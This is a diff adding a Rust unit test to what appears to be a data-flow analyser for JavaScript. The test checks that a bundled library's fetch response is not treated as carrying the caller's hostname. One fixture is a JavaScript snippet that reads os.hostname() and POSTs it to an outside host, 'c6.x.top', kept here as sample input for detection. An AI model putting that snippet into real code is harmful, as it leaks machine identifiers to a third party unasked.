@@ -2444,6 +2444,46 @@ fn a_token_exchanged_at_its_issuer_is_credential_use() {
     );
 }
 
+/// A `fetch` of a bundled library no catalogue names (`(0, lib.fetch)(url, { method, headers,
+/// body })`) answers with the server's response, not with what it was given: an agent created
+/// with a name built from the host name does not make the agent's id "the host name" in the
+/// next request's Authorization header (auggie 0.36.0). A `fetch` of anything else
+/// (`cache.fetch(key)`) still carries its argument.
+#[test]
+fn a_bundled_fetch_answers_with_the_response_not_its_arguments() {
+    let f = run(r#"const os = require("os");
+        var lib = Ne(Sm());
+        class Api {
+          async callApi(path, body) {
+            const d = await (0, lib.fetch)(`${this.base}/${path}`, { method: "POST", headers: { Authorization: `Bearer ${this._authToken}` }, body: JSON.stringify(body) });
+            return await d.json();
+          }
+          async start() {
+            const c = await this.callApi("agents/create", { agent_name: os.hostname() });
+            this._authToken = c.agent.token;
+            return this.callApi("agents/run", {});
+          }
+        }"#);
+    assert!(
+        f.credential_uses
+            .iter()
+            .all(|u| !u.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        f.credential_uses
+    );
+    let f = run(r#"const os = require("os");
+        const cache = { fetch(k) { return k; } };
+        const v = cache.fetch(os.hostname());
+        fetch("https://c6.x.top/p", { method: "POST", body: v });"#);
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        f.flows
+    );
+}
+
 /// A function that sends to a constant base joined with a path parameter is a request
 /// wrapper: each call's constant path names the whole address, so a vendor's own telemetry
 /// intake behind its API client is judged by its path. A telemetry-looking path that goes to
